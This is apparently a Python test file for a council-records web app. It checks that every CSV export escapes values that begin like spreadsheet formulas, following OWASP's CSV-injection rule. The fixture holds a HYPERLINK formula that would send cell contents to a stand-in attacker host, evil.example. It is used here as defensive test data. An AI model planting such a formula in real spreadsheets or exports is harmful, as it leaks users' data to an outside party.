"""Every CSV export keeps a name that begins like a formula as text (OWASP's rule for CSV injection)."""
from __future__ import annotations

import csv
import datetime as dt
import io

from govbody.core.csvfile import cell
from tests.conftest import login

LINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Council")'


def _rows(client, url) -> list[dict]:
    r = client.get(url)
    assert r.status_code == 200 and r.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(r.get_data(as_text=True))))


def test_names_beginning_like_a_formula_are_kept_as_text_in_every_export(client, make):
    body = make.body("C", LINK)
    session = make.session(body, 93)
    staff = make.user("secretariat")
    meeting = client.post(f"/api/v1/sessions/{session}/meetings", json={"date": "2007-06-07"},
                          headers=staff.headers).get_json()["id"]
    names = [LINK.replace("Council", "Kenya"), "+Peru", "-Chile", "@Fiji"]
    ids = {}
    start = dt.datetime(2007, 6, 7, 10, 0)
    for n, name in enumerate(names):
        ids[name] = make.delegation(name)
        r = client.post(f"/api/v1/meetings/{meeting}/interventions", headers=staff.headers, json={
            "delegation": name, "points": [f"{name} spoke"],
            "started_at": (start + dt.timedelta(minutes=n)).isoformat(),
            "ended_at": (start + dt.timedelta(minutes=n, seconds=30)).isoformat()})
        assert r.status_code == 201, r.get_json()
    login(client, staff.email)  # interventions are public once their summary is published
    row, = _rows(client, f"/delegations/{ids[names[0]]}/interventions.csv")
    assert row["body"] == "'" + LINK
    assert row["speaker"] == "'" + names[0]
    assert row["points"].startswith("• ")
    assert row["speaking_seconds"] == "30"
    for url in (f"/meetings/{meeting}/statistics.csv", f"/sessions/{session}/statistics.csv",
                f"/bodies/{body}/statistics.csv"):
        labels = {r["label"] for r in _rows(client, url)}
        assert {"'" + name for name in names} <= labels, url
        assert not any(label.startswith(("=", "+", "-", "@")) for label in labels)


def test_the_rule_covers_tab_and_carriage_return_and_leaves_numbers_alone():
    assert [cell(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "Kenya", "", -5, 2.5)] == [
        "'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "Kenya", "", -5, 2.5]
